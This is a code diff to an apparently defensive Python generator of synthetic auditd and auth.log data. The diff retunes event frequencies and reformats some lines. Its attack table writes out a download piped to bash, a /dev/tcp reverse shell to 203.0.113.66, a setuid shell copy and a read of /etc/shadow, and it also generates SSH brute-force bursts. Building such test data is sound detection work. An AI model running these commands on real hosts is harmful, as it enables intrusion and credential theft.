@@ -3,7 +3,8 @@
 The same seed gives the same bytes. The audit log is as auditd 3 writes it (ENRICHED: interpreted fields behind 0x1D,
 strings quoted when clean and hex when not, PROCTITLE in hex); the auth.log is rsyslog's of a Debian host. Of the
 events, 0.05 % are suspicious (a download piped to a shell, a reverse shell, a setuid copy, a read of /etc/shadow, a
-burst of wrong passwords); the rest is people and cron at work. Names, addresses and numbers vary.
+burst of wrong passwords); the rest is people, programs and cron at work: of the lines of the auth.log nine in ten are
+cron's, as on a server that few people log in to. Names, addresses and numbers vary.
 """
 
 import random
@@ -12,7 +13,8 @@ from collections.abc import Callable, Iterator
 
 START = 1_795_260_000.0
 SUSPICIOUS = 0.0005
-"""Share of the events that belong to an attack."""
+"""Share of the events of the audit log, and of the lines of the auth.log, that belong to an attack."""
+_LINES_OF_AN_EVENT, _LINES_OF_A_BURST = 3.2, 60
 _USERS = (("root", 0), ("alice", 1000), ("bob", 1001), ("carol", 1002), ("deploy", 1003))
 _CLEAN = set(range(0x21, 0x7F)) - {ord('"')}
 _COMMANDS: tuple[tuple[str, tuple[str, ...]], ...] = (
@@ -38,10 +40,13 @@ _COMMANDS: tuple[tuple[str, tuple[str, ...]], ...] = (
 _ATTACKS: tuple[tuple[str, tuple[str, ...]], ...] = (
     ("/usr/bin/dash", ("sh", "-c", "curl -fsSL http://198.51.100.80/{n}.sh | bash")),
     ("/usr/bin/bash", ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")),
-    ("/usr/bin/chmod", ("chmod", "4755", "/tmp/.cache/sh{n}")),
+    ("/usr/bin/chmod", ("chmod", "4755", "/tmp/.cache/sh{n}")),  # noqa: S108 - a name in a log line
     ("/usr/bin/cat", ("cat", "/etc/shadow")),
 )
 _WRITTEN = ("/srv/work/list-{n}.txt", "/var/lib/app/state-{n}.db", "build/file{n}.o", "/var/cache/app/{n}.tmp")
+_AT_HOME = tuple(
+    (user, f"192.0.2.{10 * place + desk}") for place, user in enumerate(("alice", "bob", "carol"), 1) for desk in (1, 2)
+)
 _UNITS = ("logrotate", "apt-daily", "man-db", "worker", "fstrim")
 
 
@@ -79,12 +84,10 @@ class AuditLog:
         pid, ppid = pids
         uid = self._shells[user][1]
         same = "".join(f"{key}={uid} " for key in ("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"))
-        names = " ".join(
-            f'{key}="{user}"' for key in ("UID", "GID", "EUID", "SUID", "FSUID", "EGID", "SGID", "FSGID")
-        )
+        names = " ".join(f'{key}="{user}"' for key in ("UID", "GID", "EUID", "SUID", "FSUID", "EGID", "SGID", "FSGID"))
         return (
             f"type=SYSCALL {head}: arch=c000003e {said} ppid={ppid} pid={pid} auid={uid} {same}tty=pts{uid % 9} "
-            f"ses={uid % 97 + 3} comm={encoded(comm[:15])} exe={encoded(exe)} subj=unconfined key=\"watch\"\x1dARCH=x86_64 "
+            f'ses={uid % 97 + 3} comm={encoded(comm[:15])} exe={encoded(exe)} subj=unconfined key="watch"\x1dARCH=x86_64 '
             f'SYSCALL={name} AUID="{user}" {names}\n'
         )
 
@@ -92,7 +95,7 @@ class AuditLog:
         inode = 131_000 + len(name)
         return (
             f"type=PATH {head}: item={item} name={encoded(name)} inode={inode} dev=fe:00 mode=0100755 ouid=0 ogid=0 "
-            f"rdev=00:00 nametype={role} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\"\n"
+            f'rdev=00:00 nametype={role} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID="root" OGID="root"\n'
         )
 
     def _title(self, head: str, argv: tuple[str, ...]) -> str:
@@ -108,9 +111,7 @@ class AuditLog:
         user = self._random.choice(_USERS)[0]
         head = self._next()
         self._pid = self._pid + 1 if self._pid < 60_000 else 2_000
-        said = (
-            f"syscall=59 success=yes exit=0 a0={self._serial:x} a1=55d1c8a3b300 a2=55d2c8a3b400 a3={self._pid:x} items=2"
-        )
+        said = f"syscall=59 success=yes exit=0 a0={self._serial:x} a1=55d1c8a3b300 a2=55d2c8a3b400 a3={self._pid:x} items=2"
         pids = (self._pid, self._shells[user][0])
         arguments = " ".join(f"a{place}={encoded(argument)}" for place, argument in enumerate(argv))
         return (
@@ -185,12 +186,12 @@ class AuthLog:
         self._at = START
         self._pid = 2_000
         self._kinds: tuple[Callable[[], str], ...] = (
-            *(self._cron,) * 5, *(self._key,) * 3, *(self._sudo,) * 2, self._su, self._typo,
+            *(self._cron,) * 174, *(self._key,) * 6, *(self._sudo,) * 14, *(self._su,) * 4, *(self._typo,) * 2,
         )  # fmt: skip
 
     def event(self) -> str:
         """What happens next: a few lines."""
-        if self._random.random() < SUSPICIOUS:
+        if self._random.random() < SUSPICIOUS * _LINES_OF_AN_EVENT / _LINES_OF_A_BURST:
             return self._burst()
         return self._random.choice(self._kinds)()
 
@@ -211,8 +212,8 @@ class AuthLog:
         )
 
     def _key(self) -> str:
-        pid, user = self._next_pid(), self._random.choice(("alice", "bob", "carol"))
-        host, port = f"192.0.2.{self._random.randrange(1, 250)}", self._random.randrange(1024, 65000)
+        pid, (user, host) = self._next_pid(), self._random.choice(_AT_HOME)
+        port = self._random.randrange(1024, 65000)
         session = pid % 5000
         return (
             f"{self._head(f'sshd[{pid}]')}: Accepted publickey for {user} from {host} port {port} ssh2: ED25519 "
@@ -244,10 +245,8 @@ class AuthLog:
         )
 
     def _typo(self) -> str:
-        if self._random.random() < 0.7:
-            return self._cron()
-        pid, user = self._next_pid(), self._random.choice(("alice", "bob", "carol"))
-        host, port = f"192.0.2.{self._random.randrange(1, 250)}", self._random.randrange(1024, 65000)
+        pid, (user, host) = self._next_pid(), self._random.choice(_AT_HOME)
+        port = self._random.randrange(1024, 65000)
         return (
             f"{self._head(f'sshd[{pid}]')}: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
             f"ruser= rhost={host}  user={user}\n"
@@ -258,10 +257,12 @@ class AuthLog:
     def _burst(self) -> str:
         host = f"203.0.113.{self._random.randrange(1, 250)}"
         lines = ""
-        for number in range(60):
+        for number in range(_LINES_OF_A_BURST):
             pid, name = self._next_pid(), self._random.choice(("root", "admin", "oracle", "test", "ubuntu"))
             who = name if name == "root" else f"invalid user {name}"
-            lines += f"{self._head(f'sshd[{pid}]')}: Failed password for {who} from {host} port {40_000 + number} ssh2\n"
+            lines += (
+                f"{self._head(f'sshd[{pid}]')}: Failed password for {who} from {host} port {40_000 + number} ssh2\n"
+            )
         return lines
 
 
